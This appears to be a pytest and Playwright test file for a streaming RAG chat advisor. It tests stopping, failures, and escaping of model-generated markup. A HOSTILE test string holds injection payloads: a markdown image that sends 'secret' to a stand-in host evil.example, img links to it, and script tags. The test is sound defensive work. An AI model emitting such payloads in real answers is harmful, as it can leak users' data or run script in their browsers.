"""Answers that take their time, as a chat model's do: stopping, failing, and words that a model makes up."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import fields
from typing import TYPE_CHECKING

import pytest
import uvicorn
from playwright.sync_api import expect

from advisor.answer import Answer, Status
from advisor.follow_up import History
from advisor.library import Within
from advisor.rag import Advisor, Chat, Reply
from advisor.web.server import application

if TYPE_CHECKING:
    from conftest import Visitor

    Open = Callable[..., Visitor]

_SLOW = 60  # pieces; three seconds
QUESTION = "What does a senior AI engineer earn?"
HOSTILE = (
    "![x](https://evil.example/?d=secret) [here](https://evil.example) <https://evil.example> www.evil.example "
    '<img src="https://evil.example/x"> <script>window.hacked = 1</script> \\<script>window.hacked = 2</script> '
    "`![x](https://evil.example/c)` [ref][9] from ~5 to ~10, $$x$$, a\\*b\n\n[ref]: https://evil.example\n"
)


class Slow(Advisor):
    """The advisor, taking its time over the first pieces of an answer."""

    def chat(
        self, history: History = (), *, within: Within = None, length: str = "normal", model: str | None = None
    ) -> SlowChat:
        return SlowChat(self, list(history), within, length, model)


class SlowChat(Chat):
    def stream(self, question: str) -> SlowReply:
        return SlowReply(super().stream(question), question)


class SlowReply:
    def __init__(self, reply: Reply, question: str) -> None:
        hostile = Answer(text=HOSTILE, status=Status.PARTIAL, question=question)
        self.answer = hostile if "hostile" in question else reply.answer
        self.fails = "fail" in question

    def __iter__(self) -> Iterator[str]:
        for number, piece in enumerate(re.findall(r"\S+\s*", self.answer.text)):
            if self.fails and number == 5:
                raise RuntimeError("the model has gone")
            time.sleep(0.05 if number < _SLOW else 0)
            yield piece


@pytest.fixture(scope="module")
def slow_url(guide: Advisor) -> Iterator[str]:
    config = uvicorn.Config(
        application(Slow(**{field.name: getattr(guide, field.name) for field in fields(guide)}), guide.holdings),
        port=0,
        log_level="critical",
        timeout_graceful_shutdown=1,
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}/"
    server.should_exit = True
    thread.join(timeout=20)


def begin(visitor: Visitor, question: str) -> None:
    visitor.page.get_by_label("Your question").fill(question)
    visitor.page.keyboard.press("Enter")
    expect(visitor.page.locator("#chat .bot-row")).to_contain_text("Salaries")


def test_stop_freezes_the_answer_and_says_so(open_page: Open, slow_url: str) -> None:
    visitor = open_page(slow_url)
    begin(visitor, QUESTION)
    bubble = visitor.answered(visitor.page.get_by_role("button", name="Stop").click)
    expect(bubble.locator(".notice.error")).to_contain_text("Stopped.")
    before = bubble.inner_text()
    visitor.page.wait_for_timeout(700)  # long enough for a dozen more pieces
    assert bubble.inner_text() == before
    expect(bubble.locator("a")).to_have_count(0)
    expect(visitor.page.get_by_role("button", name="Send")).to_be_visible()


def test_after_a_stop_the_conversation_goes_on(open_page: Open, slow_url: str) -> None:
    visitor = open_page(slow_url)
    begin(visitor, QUESTION)
    visitor.answered(visitor.page.get_by_role("button", name="Stop").click)
    expect(visitor.ask("and Tesla?").locator(".notice").first).to_have_text("Answered from the documents")


def test_a_marker_clicked_too_early_opens_once_the_answer_is_complete(open_page: Open, slow_url: str) -> None:
    visitor = open_page(slow_url)
    begin(visitor, QUESTION)
    visitor.page.locator("#chat a[href$='-1']").first.click()
    expect(visitor.page.locator("#panel [role=status]")).to_contain_text("as soon as the answer is complete")
    expect(visitor.page.locator("#source")).to_be_visible(timeout=20_000)


def test_a_failure_is_an_error_and_the_next_question_is_answered(open_page: Open, slow_url: str) -> None:
    visitor = open_page(slow_url)
    bubble = visitor.ask("What does a senior AI engineer earn, or does it fail?")
    expect(bubble.locator(".notice.error")).to_contain_text("Something went wrong")
    assert "gone" not in bubble.inner_text()
    expect(visitor.ask(QUESTION).locator(".notice").first).to_have_text("Answered from the documents")


def test_links_images_and_scripts_in_an_answer_stay_words(open_page: Open, slow_url: str) -> None:
    visitor = open_page(slow_url)
    bubble = visitor.ask("a hostile one")
    expect(bubble).to_contain_text("![x](https://evil.example/?d=secret) [here](https://evil.example)")
    expect(bubble).to_contain_text("<script>window.hacked = 1</script> <script>window.hacked = 2</script>")
    expect(bubble).to_contain_text("[ref][9] from ~5 to ~10, $$x$$, a*b")
    expect(bubble.locator("a, img, script, del")).to_have_count(0)
    assert visitor.page.evaluate("window.hacked === undefined")
